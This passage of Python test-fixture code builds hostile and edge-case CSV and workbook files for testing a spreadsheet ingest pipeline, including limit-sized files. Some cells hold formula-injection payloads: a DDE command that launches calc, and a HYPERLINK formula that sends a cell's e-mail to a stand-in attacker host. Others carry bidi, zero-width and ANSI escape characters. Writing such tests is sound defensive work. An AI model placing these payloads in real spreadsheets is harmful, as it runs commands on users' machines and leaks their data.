            ["@SUM(A1)", "Ng", "bob.ng@example.com", "EMAIL", "U761382", "25"],
            ["+cmd|'/C calc'!A0", "Diaz", "cara.diaz@example.com", "EMAIL", "U761382", "25"],
            ["-2+3", "Kim", "dan.kim@example.com", "EMAIL", "U761382", "25"],
            ["Eve", '=HYPERLINK("http://evil.example/?"&C2,"fix me")', "eve@example.com", "EMAIL", "U761382", "25"],
            ["Fay", "Ota", "=1+1", "EMAIL", "U761382", "=2*50"]]


@case("cells that spreadsheets run as formulas: =1+1, @SUM(A1), +cmd|'/C calc'!A0, -2+3, =HYPERLINK(...) in "
      "names, e-mail and amount (CSV)")
def csv_formula_cells(folder: Path) -> Path:
    return _write(folder / "formulas.csv", _csv(FORMULAS))


@case("the same formula-like text as string cells of a workbook")
def xlsx_formula_cells(folder: Path) -> Path:
    return _xlsx(folder / "formulas.xlsx", [HEADER, *FORMULAS])


BIDI = [["Ann\u202eeeL", "Lee\u200b", "ann\u200b.lee@example.com", "EMAIL", "U761382", "25"],
        ["\ufeffBob", "N\u200dg", "bob@exa\u202emple.com", "EMAIL", "U761382", "50"],
        ["Cara", "Diaz", "cara.diaz@example.com\ufeff", "EMAIL", "U761382\u200b", "2\u200b5"]]


@case("right-to-left override U+202E and zero-width U+200B, U+200D, U+FEFF inside names, e-mails, UTID, amount "
      "(CSV)")
def csv_bidi_zero_width(folder: Path) -> Path:
    return _write(folder / "bidi.csv", _csv(BIDI))


@case("the same bidi and zero-width characters in a workbook")
def xlsx_bidi_zero_width(folder: Path) -> Path:
    return _xlsx(folder / "bidi.xlsx", [HEADER, *BIDI])


RESERVED = ["Status", "Errors", "Warnings", "Row", "Line item ID", "Order ID"]
RESERVED_ROWS = [[*r, "COMPLETE", "none", "", str(900 + i), f"LI-{i}", "ORD-1"] for i, r in enumerate(ROWS)]


@case("a valid sheet whose own columns are named Status, Errors, Warnings, Row, Line item ID, Order ID "
      "(the report's column names) beside the real ones (CSV)")
def csv_reserved_columns(folder: Path) -> Path:
    return _write(folder / "reserved.csv", _csv(RESERVED_ROWS, HEADER + RESERVED))


@case("the same report-named columns in a workbook")
def xlsx_reserved_columns(folder: Path) -> Path:
    return _xlsx(folder / "reserved.xlsx", [HEADER + RESERVED, *RESERVED_ROWS])


@case("ANSI escape sequences and a BEL in names and in an invalid amount (what a console message would echo)")
def csv_ansi_cells(folder: Path) -> Path:
    rows = [["\x1b[2J\x1b[31mAnn", "Lee\x07", "ann.lee@example.com", "EMAIL", "U761382", "\x1b[1m25x"], *ROWS[1:]]
    return _write(folder / "ansi-cells.csv", _csv(rows))


@case("a good workbook that also holds an SVG image whose XML declares a DOCTYPE (as Illustrator writes "
      "them): not a reason to refuse it")
def xlsx_svg_with_doctype(folder: Path) -> Path:
    path = _xlsx(folder / "with-logo.xlsx", [HEADER, *ROWS])
    with zipfile.ZipFile(path, "a") as z:
        z.writestr("xl/media/image1.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                   '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>')
    return path


# === at the limits: not hostile, only as large as a file may be (the bench's, not the tests') ============
LARGE: list[Case] = []


def _at_limit_sheet(path: Path, part_bytes: int) -> Path:
    """A workbook of one sheet of distinct recipients whose XML is just under ``part_bytes``."""
    header = HEADER + [f"Extra {i}" for i in range(1, 13)]                 # 18 columns, as the other benches
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, part in [("[Content_Types].xml", package_types()), ("_rels/.rels", ROOT_RELS),
                           ("xl/workbook.xml", workbook_xml(["Recipients"])),
                           ("xl/_rels/workbook.xml.rels", SHEET_RELS), ("xl/styles.xml", STYLES)]:
            z.writestr(name, part)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            head = sheet_head(row_xml(1, header))
            fh.write(head)
            size, r = len(head) + len(SHEET_END), 2
            while True:
                row = row_xml(r, [f"P{r}", "Lee", f"p{r}@example.com", "EMAIL", "U761382", str(5 + r % 50),
                                  *(f"x{r}-{i}" for i in range(12))])
                if size + len(row) > part_bytes:
                    break
                fh.write(row)
                size, r = size + len(row), r + 1
            fh.write(SHEET_END)
    return path


def package_types(shared: bool = False) -> bytes:
    strings = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
               b'officedocument.spreadsheetml.sharedStrings+xml"/>') if shared else b""
    return (DECL + b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            b'<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'spreadsheetml.styles+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            + CT_SHEET.encode() + b'"/>' + strings + b"</Types>")


ROOT_RELS = (DECL + f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" '
             'Target="xl/workbook.xml"/></Relationships>'.encode())
SHEET_RELS = (DECL + f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" '
              f'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{REL}/styles" Target="styles.xml"/>'
              '</Relationships>'.encode())


def at_limit_sheet(folder: Path) -> Path:
    from pipeline.stages.ingest.limits import MAX_PART_BYTES
    return _at_limit_sheet(folder / "at-limit.xlsx", MAX_PART_BYTES - (1 << 20))


LARGE.append(Case("at_limit_sheet", at_limit_sheet, "the largest sheet a workbook may hold: its XML 1 MB under "
                  "the limit on a part (about 130,000 rows of 18 columns of inline text)", heavy=True))


def at_limit_shared(folder: Path) -> Path:
    """Shared strings pack more cells into the same bytes: the sheet's XML and the shared strings
    both just under the limit on a part (the workbook then just under the limit on the whole)."""
    from pipeline.stages.ingest.limits import MAX_PART_BYTES
    path, budget = folder / "at-limit-shared.xlsx", MAX_PART_BYTES - (1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, part in [("[Content_Types].xml", package_types(shared=True)), ("_rels/.rels", ROOT_RELS),
                           ("xl/workbook.xml", workbook_xml(["Recipients"])),
                           ("xl/_rels/workbook.xml.rels", SHEET_RELS.replace(b"</Relationships>", (
                               f'<Relationship Id="rId3" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
                               "</Relationships>").encode())), ("xl/styles.xml", STYLES)]:
            z.writestr(name, part)
        strings: list[bytes] = [f"<si><t>{h}</t></si>".encode() for h in HEADER]
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            head = sheet_head(b'<row r="1">' + b"".join(f'<c r="{col(i)}1" t="s"><v>{i}</v></c>'.encode()
                                                         for i in range(len(HEADER))) + b"</row>")
            fh.write(head)
            size, r, text = len(head) + len(SHEET_END), 2, len(b"".join(strings))
            while True:
                values = [f"P{r}", "Lee", f"p{r}@example.com", "EMAIL", "U761382", str(5 + r % 50)]
                cells = []
                for i, v in enumerate(values):
                    strings.append(f"<si><t>{v}</t></si>".encode())
                    cells.append(f'<c r="{col(i)}{r}" t="s"><v>{len(strings) - 1}</v></c>')
                row = f'<row r="{r}">{"".join(cells)}</row>'.encode()
                text += sum(len(s) for s in strings[-len(values):])
                if size + len(row) > budget or text > budget - 200:
                    del strings[-len(values):]
                    break
                fh.write(row)
                size, r = size + len(row), r + 1
            fh.write(SHEET_END)
        z.writestr("xl/sharedStrings.xml", DECL + f'<sst xmlns="{MAIN}" count="{len(strings)}" '
                   f'uniqueCount="{len(strings)}">'.encode() + b"".join(strings) + b"</sst>")
    return path


LARGE.append(Case("at_limit_shared", at_limit_shared, "a sheet and its shared strings each just under the limit "
                  "on a part (about 3 million distinct cells)", heavy=True))


def at_limit_csv(folder: Path) -> Path:
    """A CSV of as many rows as Excel allows: the header and 1,048,575 distinct recipients."""
    path = folder / "at-limit.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(",".join(HEADER) + "\n")
        for start in range(2, 1_048_577, 100_000):
            fh.write("".join(f"P{r},Lee,p{r}@example.com,EMAIL,U761382,{5 + r % 50}\n"
                             for r in range(start, min(start + 100_000, 1_048_577))))
    return path


LARGE.append(Case("at_limit_csv", at_limit_csv, "a CSV of 1,048,576 rows, Excel's limit", heavy=True))
